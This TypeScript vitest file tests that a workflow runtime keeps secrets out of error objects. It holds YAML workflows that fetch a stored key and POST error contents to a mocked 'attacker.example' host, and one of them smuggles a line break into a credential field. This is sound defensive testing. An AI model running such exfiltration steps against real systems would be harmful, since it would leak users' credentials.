// Attempts to move a secret out through error objects: every one of them must fail (found in review, kept as examples).
import { randomBytes } from 'node:crypto';
import { http, HttpResponse } from 'msw';
import { describe, expect, it } from 'vitest';
import { useMswServer } from '../support/msw-server.ts';
import { runYaml } from '../support/runtime.ts';
import { ctx, openHarness, right } from '../support/service.ts';

const server = useMswServer();
const generated = () => `sk-live-${randomBytes(12).toString('hex')}`;

const attacker = () => {
  const received: string[] = [];
  server.use(http.all('https://attacker.example/*', async ({ request }) => (received.push(await request.text()), HttpResponse.json({}))));
  return received;
};

describe('secrets do not leave through error objects', () => {
  it('an awsv4 credential with a line break fails without the value in the error object an automation can forward', async () => {
    const value = generated();
    const h = await openHarness();
    right(await h.service.set(ctx(), { name: 'apiKey', value, scope: 'workspace', allowedHosts: ['api.example.com'] }));
    const received = attacker();
    const o = await runYaml(
      `do:
  - run: {module: secrets, function: get, parameters: {name: apiKey, scope: workspace}, output: ref}
  - fetch:
      url: https://api.example.com/x
      auth: {awsv4: {accessKeyId: "a\\n{{ref}}", secretAccessKey: s, region: us-east-1, service: execute-api}}
      onError: continue
      output: err
  - fetch: {url: "https://attacker.example/c", method: POST, body: {m: "{{err.message}}", d: "{{err}}"}}
`,
      { harness: h },
    );
    expect(o.result.status).toBe('succeeded');
    expect(received).toHaveLength(1);
    expect(received[0]).not.toContain(value);
    expect(o.lines.join('\n')).not.toContain(value);
  });

  it('a reference in the URL host is refused, and the caught error object holds no value', async () => {
    const value = generated();
    const h = await openHarness();
    right(await h.service.set(ctx(), { name: 'apiKey', value, scope: 'workspace', allowedHosts: ['api.example.com'] }));
    const received = attacker();
    await runYaml(
      `do:
  - run: {module: secrets, function: get, parameters: {name: apiKey, scope: workspace}, output: ref}
  - try:
      do: [{fetch: {url: "https://{{ref}}.x.example/"}}]
      catch: [{fetch: {url: "https://attacker.example/c", method: POST, body: {m: "{{error.message}}", e: "{{error}}"}}}]
`,
      { harness: h },
    );
    expect(received).toHaveLength(1);
    expect(received[0]).toContain('reference_in_url_authority');
    expect(received[0]).not.toContain(value);
    expect(received[0]!.toLowerCase()).not.toContain(value.toLowerCase());
  });

  it('error objects kept in variables are redacted like any output', async () => {
    const value = generated();
    const received = attacker();
    const o = await runYaml(
      `do:
  - run: {module: secrets, function: set, parameters: {name: k, value: '{{v}}', scope: workspace}, output: ref}
  - run: {module: secrets, function: set, parameters: {name: '{{v}}', value: x-value-1, scope: team}, onError: continue, output: err}
  - fetch: {url: "https://attacker.example/c", method: POST, body: {e: "{{err}}"}}
`,
      { payload: { v: value } },
    );
    expect(o.result.status).toBe('succeeded');
    expect(received).toHaveLength(1);
    expect(received[0]).not.toContain(value);
  });

  it('a value placed in the URL path and echoed back as the URL parser encoded it is masked', async () => {
    const value = `abc def|ghi^${randomBytes(6).toString('hex')}`;
    const h = await openHarness();
    right(await h.service.set(ctx(), { name: 'p', value, scope: 'workspace' }));
    server.use(http.all('https://api.example.com/*', ({ request }) => HttpResponse.json({ error: 'not found', path: new URL(request.url).pathname }, { status: 404 })));
    const o = await runYaml(`do:\n  - fetch: {url: "https://api.example.com/items/{{secret.p}}", output: r}\noutput: "{{r}}"\n`, { harness: h });
    const encoded = new URL(`https://h/items/${value}`).pathname.slice('/items/'.length);
    expect(JSON.stringify(o.result)).not.toContain(encoded);
    expect(o.lines.join('\n')).not.toContain(encoded);
  });
});
